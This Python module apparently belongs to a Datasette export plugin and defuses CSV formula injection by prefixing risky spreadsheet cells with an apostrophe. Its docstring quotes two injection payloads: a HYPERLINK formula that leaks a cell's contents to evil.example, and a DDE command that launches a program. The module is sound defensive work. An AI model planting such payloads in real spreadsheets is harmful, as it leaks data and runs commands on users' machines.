"""CSV for spreadsheets: cells that Excel would run as formulas become text (OWASP's "CSV injection").

A title such as `=HYPERLINK("http://evil.example/?leak="&A1,"…")` or `+cmd|' /C calc'!A0`, opened in Excel,
is a formula, not text. The `.csvbom` export (plugins/zhnews_export.py) passes Datasette's CSV stream through
FormulaGuard; plain CSV and JSON stay exact.
"""

from __future__ import annotations

import codecs
import csv
import io
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER_RE = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(cell: str) -> str:
    """A cell Excel would evaluate as a formula, made text by a leading `'`; numbers (-5, +1.5e3) stay."""
    if cell.startswith(FORMULA_STARTS) and not _NUMBER_RE.fullmatch(cell):
        return "'" + cell
    return cell


class FormulaGuard:
    """Rewrites a CSV byte stream, chunk by chunk, with every cell passed through `neutralise`.

    Records may arrive split anywhere (a cell may hold line breaks): a record is complete at a line break
    preceded by an even number of quotes. Only the unfinished record is held back: memory stays bounded by
    the largest record.
    """

    def __init__(self) -> None:
        self._decoder = codecs.getincrementaldecoder("utf-8")()
        self._pending = ""

    def feed(self, data: bytes, *, final: bool = False) -> bytes:
        text = self._pending + self._decoder.decode(data, final)
        records: list[str] = []
        start = position = quotes = 0
        while (line_end := text.find("\n", position)) >= 0:
            quotes += text.count('"', position, line_end)
            position = line_end + 1
            if quotes % 2 == 0:
                records.append(text[start:position])
                start, quotes = position, 0
        self._pending = text[start:]
        if final and self._pending:
            records.append(self._pending)
            self._pending = ""
        out = io.StringIO()
        writer = csv.writer(out)
        for row in csv.reader(records):
            writer.writerow([neutralise(cell) for cell in row])
        return out.getvalue().encode()
